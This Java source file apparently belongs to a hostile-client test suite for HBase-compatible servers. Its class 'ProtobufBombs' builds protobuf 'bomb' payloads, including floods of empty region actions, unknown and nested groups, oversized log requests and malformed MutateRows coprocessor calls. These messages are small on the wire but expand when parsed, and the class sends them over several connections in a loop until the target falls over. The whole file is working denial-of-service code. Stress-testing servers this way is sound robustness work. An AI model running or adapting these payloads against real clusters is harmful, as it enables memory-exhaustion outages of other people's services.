package org.grampus.compat.suite.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.List;
import org.apache.hadoop.hbase.shaded.protobuf.generated.ClientProtos.CoprocessorServiceCall;
import org.apache.hadoop.hbase.shaded.protobuf.generated.ClientProtos.CoprocessorServiceRequest;
import org.apache.hadoop.hbase.shaded.protobuf.generated.ClientProtos.RegionAction;
import org.apache.hadoop.hbase.shaded.protobuf.generated.HBaseProtos.LogRequest;
import org.apache.hbase.thirdparty.com.google.protobuf.ByteString;
import org.apache.hbase.thirdparty.com.google.protobuf.CodedOutputStream;
import org.apache.hbase.thirdparty.com.google.protobuf.UnsafeByteOperations;

/** Requests that are small on the wire and large as objects, several at once. */
final class ProtobufBombs implements Attack {
  private static final int BYTES = 20 << 20;

  /** Of empty actions as many as pass the estimate of a message on a heap of 512 MB. */
  private static final int ACTION_BYTES = 1_300_000;

  /** Of absent regions, likewise. */
  private static final int ABSENT_BYTES = 6 * 170_000;

  private static final int CONNECTIONS = 6;
  private static final String CLIENTS = "ClientService";

  @Override
  public String name() {
    return "protobuf bombs";
  }

  private List<Bomb> bombs = List.of();

  /** A call of a service. */
  private record Bomb(String service, String method, byte[] param) {}

  @Override
  public void prepare(Victim victim) throws IOException {
    bombs =
        List.of(
            multi(victim, filled(BYTES, (byte) 0x1a, (byte) 0)), // empty actions
            multi(victim, filled(ACTION_BYTES, (byte) 0x1a, (byte) 0)), // each has an error
            multi(victim, filled(BYTES, (byte) 0x78, (byte) 1)), // unknown numbers
            multi(victim, filled(BYTES, (byte) 0x7b, (byte) 0x7c)), // unknown groups
            multi(victim, nested()),
            logs(),
            absentRegions(),
            mutateRows(victim));
  }

  @Override
  public void run(Victim victim) throws Exception {
    while (!victim.isOver()) {
      for (Bomb bomb : bombs) {
        try (Connections connections = new Connections()) {
          int[] address = {0};
          connections.open(
              CONNECTIONS, () -> victim.connectTo(bomb.service(), 1 + address[0]++ / 3));
          connections.each(wire -> wire.send(bomb.method(), bomb.param(), new byte[0]));
          connections.each(Wire::skipReply);
          victim.pause();
        }
        if (victim.isOver()) {
          return;
        }
      }
    }
  }

  /** A message in bytes, of unknown groups. */
  private static Bomb logs() {
    LogRequest request =
        LogRequest.newBuilder()
            .setLogClassName("SlowLogResponseRequest")
            .setLogMessage(
                UnsafeByteOperations.unsafeWrap(filled(BYTES / 2, (byte) 0x7b, (byte) 0x7c)))
            .build();
    return new Bomb("AdminService", "GetLogEntries", request.toByteArray());
  }

  /** Each has an error. */
  private static Bomb absentRegions() {
    byte[] region = {1 << 3 | 2, 4, 1 << 3, 1, 2 << 3 | 2, 0};
    return new Bomb("AdminService", "ClearRegionBlockCache", filled(ABSENT_BYTES, region));
  }

  /** Empty mutations behind the end of no group. */
  private static Bomb mutateRows(Victim victim) {
    byte[] request = filled(BYTES / 2, (byte) 0x0a, (byte) 0);
    request[0] = 1 << 3 | 4;
    request[1] = 1 << 3 | 4;
    CoprocessorServiceRequest call =
        CoprocessorServiceRequest.newBuilder()
            .setRegion(Victim.region(victim.small()))
            .setCall(
                CoprocessorServiceCall.newBuilder()
                    .setRow(ByteString.EMPTY)
                    .setServiceName("MultiRowMutationService")
                    .setMethodName("MutateRows")
                    .setRequest(UnsafeByteOperations.unsafeWrap(request)))
            .build();
    return new Bomb(CLIENTS, "ExecService", call.toByteArray());
  }

  private static byte[] filled(int length, byte... pattern) {
    byte[] bytes = new byte[length];
    for (int i = 0; i < bytes.length; i++) {
      bytes[i] = pattern[i % pattern.length];
    }
    return bytes;
  }

  private static byte[] nested() {
    byte[] bytes = new byte[BYTES];
    Arrays.fill(bytes, (byte) 0x7b);
    return bytes;
  }

  /** One region action with these bytes behind its region. */
  private static Bomb multi(Victim victim, byte[] more) throws IOException {
    ByteArrayOutputStream action = new ByteArrayOutputStream();
    RegionAction.newBuilder().setRegion(Victim.region(victim.small())).build().writeTo(action);
    action.write(more);
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    CodedOutputStream out = CodedOutputStream.newInstance(bytes);
    out.writeByteArray(1, action.toByteArray());
    out.flush();
    return new Bomb(CLIENTS, "Multi", bytes.toByteArray());
  }
}
